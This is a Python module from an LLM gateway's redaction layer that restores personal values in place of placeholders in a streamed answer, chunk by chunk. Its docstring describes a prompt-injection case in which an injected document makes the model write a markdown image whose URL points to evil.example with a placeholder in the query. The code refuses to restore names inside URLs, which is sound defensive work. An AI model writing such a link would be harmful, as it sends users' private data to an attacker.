"""Putting the values back into an answer, chunk by chunk.

A `Restorer` serves one channel (the text of one choice, the arguments of one tool call) and knows `feed` and `close`
only; a complete answer is a stream of one chunk. It keeps these properties, whatever the cuts:

* ``join(feed) + close`` is the same for every way of cutting;
* only the longest suffix that could still become an *issued* placeholder is held back (at most `MAX_LENGTH`), and
  behind a name that ends in a sibilant an "s"; without a sentinel ``feed(x) == x``;
* values are inserted once and never scanned again; unknown tokens stay and are counted;
* nothing is restored inside a URL, a link target or an attribute of an HTML tag: an injected document could make the
  model write ``![](https://evil.example/?q=[PERSON1])``, and the name would leave with the picture.

It does not know JSON frames, dialects or HTTP.
"""

from __future__ import annotations

import json
from collections.abc import Mapping

from gateway.redaction.ending import ENDINGS, ends_in_sibilant, goes_on
from gateway.redaction.place import Place
from gateway.redaction.placeholder import (
    CLOSED,
    MAX_LENGTH,
    OPEN,
    SENTINELS,
    Issued,
    Reading,
    find_sentinel,
    read,
    readings,
)

_WAIT = -1


class Restorer:
    """Restores the placeholders of one exchange in one channel.

    ``values`` maps the issued form (``[PERSON1]``) to what the person wrote. With ``json_string`` the channel is the
    source text of JSON (tool arguments), so a value is escaped where it lands. ``withheld`` counts the tokens left as
    they are because of the place they stood at.
    """

    def __init__(self, values: Mapping[str, str] | Issued, *, json_string: bool = False) -> None:
        self._issued = values if isinstance(values, Issued) else Issued(values)
        self._json = json_string
        self._carry = ""
        self._behind: Reading | None = None
        """The name that was shown last, if it ends in a sibilant and nothing has followed it yet."""
        self._place = Place(json_string=json_string)
        self._raw: list[str] = []
        self.withheld = 0

    @property
    def raw(self) -> str:
        """The channel as the provider sent it so far."""
        return "".join(self._raw)

    @property
    def unresolved(self) -> int:
        """The number of tokens so far that this exchange never issued."""
        return sum(self._issued.value(reading) is None for reading in readings(self.raw))

    def feed(self, text: str) -> str:
        """Take the next piece of the answer and return all that can be shown now."""
        self._raw.append(text)
        if not self._carry and self._behind is None and not any(s in text for s in SENTINELS):
            self._place.shown(text)
            return text
        return self._run(self._carry + text, final=False)

    def close(self) -> str:
        """End the channel and return what was held back, as it came: an unfinished token is never guessed."""
        return self._run(self._carry, final=True)

    def _run(self, text: str, *, final: bool) -> str:
        out: list[str] = []
        done = 0
        while (after := self._settle(out, text, done, final=final)) != _WAIT:
            start = find_sentinel(text, after)
            done = len(text) if start < 0 else start
            self._show(out, text[after:done])
            if start < 0 or (after := self._take(out, text, start, final=final)) == _WAIT:
                break
            done = after
        self._carry = text[done:]
        return "".join(out)

    def _take(self, out: list[str], text: str, start: int, *, final: bool) -> int:
        """Show the token that begins at `start`, or its first character if none does. Return where to go on."""
        match = CLOSED.match(text, start, partial=not final)
        if match is None:
            match = OPEN.match(text, start)
        elif match.partial:
            tail = text[start:]
            if len(tail) <= MAX_LENGTH and self._issued.may_become(tail):
                return _WAIT
            match = None
        value = self._value(read(match)) if match else None
        self._show(out, text[start] if value is None else value)
        return match.end() if match and value is not None else start + 1

    def _value(self, reading: Reading) -> str | None:
        value = self._issued.value(reading)
        if value is None:
            return None
        if self._place.is_unsafe():
            self.withheld += 1
            return None
        shown = value
        if reading.owns:
            shown += self._genitive(reading, value)
        elif reading.label == "PERSON" and ends_in_sibilant(value):
            self._behind = reading
        for _ in range(self._place.depth):
            shown = json.dumps(shown, ensure_ascii=False)[1:-1]
        return shown

    def _settle(self, out: list[str], text: str, at: int, *, final: bool) -> int:
        """Show the genitive ending at `at` as the name before it wants it. Return where to go on."""
        if self._behind is None:
            return at
        undecided = not final and (at == len(text) or (at + 1 == len(text) and text[at] in ENDINGS))
        if undecided:
            return _WAIT
        reading, self._behind = self._behind, None
        following = text[at + 1:at + 2]
        if text[at:at + 1] not in ENDINGS or goes_on(following) or (self._json and following == "\\"):
            return at
        self._show(out, self._genitive(reading, self._issued.value(reading) or ""))
        return at + 1

    def _genitive(self, reading: Reading, value: str) -> str:
        if reading.label != "PERSON" or not ends_in_sibilant(value):
            return "s"
        return "" if value[-1] in ENDINGS and self._issued.has_form(reading.base, value[:-1]) else "’"

    def _show(self, out: list[str], text: str) -> None:
        if text:
            out.append(text)
            self._place.shown(text)


def restore(text: str, values: Mapping[str, str] | Issued) -> str:
    """Restore a complete text: the stream of one chunk."""
    restorer = Restorer(values)
    return restorer.feed(text) + restorer.close()
